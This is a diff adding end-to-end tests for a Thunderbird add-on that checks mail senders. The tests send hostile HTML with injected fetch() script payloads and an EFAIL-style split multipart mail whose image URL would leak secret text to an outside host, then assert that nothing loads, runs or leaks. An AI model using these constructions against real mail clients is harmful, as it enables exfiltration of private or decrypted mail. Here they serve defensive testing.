@@ -1,4 +1,6 @@
 /** Reading in a real Thunderbird, and what a reader can do with a mail: report it, pass it on unopened. One reader; the others are test/e2e/mails.ts. */
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Place } from '../../scripts/world/chrome-side.ts';
 import type { Correspondent } from '../../scripts/world/correspondent.ts';
@@ -9,6 +11,7 @@ import { contentOf } from '../../extension/member/reading-content.ts';
 import { utf8 } from '../../src/core/bytes.ts';
 import { judgeMail } from '../../src/flow/open.ts';
 import { native } from '../flow/world.ts';
+import { closedVectors, openVectors, type Traps } from './hostile-html.ts';
 import { Post } from './mails.ts';
 import { ADDON_ID, type PluginWorld, startPluginWorld } from './plugin-world.ts';
 
@@ -101,4 +104,62 @@ describe('reading', { timeout: 180_000 }, () => {
     await hanako.desktop.keys('ctrl+w');
     await until(async () => (await hanako.desktop.thunderbird.find(onPage('.viewer'))).length === 0, { what: 'the attachment to close' });
   });
+
+  it('loads and runs nothing of hostile HTML, and its line is neither covered nor moved', async () => {
+    const tracker = createServer((request, response) => {
+      plugin.outside.asked.push(`http ${request.url ?? ''}`);
+      response.end();
+    });
+    await new Promise<void>((resolve) => tracker.listen(0, '127.0.0.1', () => resolve()));
+    world.closing(() => void tracker.close());
+    const plain = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}/`;
+    const traps = (base: string): Traps => ({ u: (name) => base + name, run: (name) => `document.documentElement.dataset.ran='${name}',fetch('${base}ran-${name}')` });
+    const mails = {
+      'hostile http': closedVectors(traps(plain)).join('\n'), 'hostile https': closedVectors(traps(plugin.outside.url)).join('\n'), ...openVectors(traps(plugin.outside.url)),
+    };
+    for (const [subject, html] of Object.entries(mails)) await post.send(TARO, { to: TO_HANAKO, subject, html: `${html}\n<p>末尾</p>` });
+    // What one part begins, another cannot end: the text between stays where it is (EFAIL's direct exfiltration).
+    await post.send(TARO, { to: TO_HANAKO, subject: 'split', entity: split(plugin.outside.url) });
+    const { thunderbird } = hanako.desktop;
+    for (const subject of [...Object.keys(mails), 'split']) {
+      await hanako.select(subject);
+      expect(await verdict('verified'), subject).toContain('日之出市役所が本人であることを確認しました');
+      for (const part of ['.banner', '.banner .mark', '.banner .sentence']) expect((await thunderbird.find(inPane(part)))[0]?.reachable, `${subject} ${part}`).toBe(true);
+      expect(await thunderbird.find(inPane('[data-ran], script, style:not(.banner ~ style), iframe, object, link[href^=http], form, base')), subject).toEqual([]);
+      expect((await hanako.headerButton(ADDON_ID))?.trim(), subject).toBe('日之出市役所が確認');
+    }
+    expect(plugin.outside.asked).toEqual([]);
+  });
+
+  it('fetches pictures from outside when it is asked to, after saying what that tells, and for this mail only', async () => {
+    const { desktop } = hanako;
+    await post.send(TARO, { to: TO_HANAKO, subject: '写真', html: `<p style="color: rgb(120, 0, 0)">写真です。</p><img src="${plugin.outside.url}photo.png">` });
+    await hanako.select('写真');
+    expect((await desktop.thunderbird.see(inPane('.pictures'))).text).toContain(`（${new URL(plugin.outside.url).host}）`);
+    expect(plugin.outside.asked).toEqual([]);
+    await desktop.click(inPane('.pictures button'));
+    await desktop.thunderbird.see({ ...onPage('.viewer .mail-body'), text: '写真です。' });
+    await until(() => plugin.outside.asked.length > 0, { what: 'the picture to be fetched' });
+    expect(plugin.outside.asked).toEqual(['photo.png']);
+    expect((await desktop.thunderbird.see(onPage('.viewer img'))).width).toBeGreaterThan(100);
+    await desktop.keys('ctrl+w');
+    await until(async () => (await desktop.thunderbird.find(onPage('.viewer'))).length === 0, { what: 'the pictures to close' });
+  });
+
+  it('has nothing to click on a problem: no links, no attachments', async () => {
+    const raw = await post.deliver(TARO, { to: TO_HANAKO, subject: '差替え', html: '<a href="https://example.com/">x</a>', attachments: [{ name: 'a.txt', type: 'text/plain', bytes: utf8('x') }] });
+    await plugin.store(HANAKO).append(Buffer.from(Buffer.from(raw).toString('latin1').replace(/^From: .*$/m, `From: ${YUKI}`), 'latin1'));
+    await hanako.select('差替え');
+    expect(await verdict('problem')).toContain('差出人を偽っているおそれがあります');
+    expect(await hanako.desktop.thunderbird.find(inPane('a, button, .files'))).toEqual([]);
+  });
 });
+
+/** HTML that opens an attribute in one part and closes it in another. */
+function split(base: string): Uint8Array<ArrayBuffer> {
+  const part = (type: string, text: string): string => `--b\r\nContent-Type: ${type}; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n${text}\r\n`;
+  return utf8([
+    `From: ${TARO}`, `To: ${HANAKO}`, 'Subject: split', `Date: ${new Date().toUTCString()}`, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; hp="cipher"; boundary=b', '',
+    part('text/html', `<p>x</p><img src="${base}split?`) + part('text/plain', '秘密') + part('text/html', '"><p>y</p>') + '--b--', '',
+  ].join('\r\n'));
+}
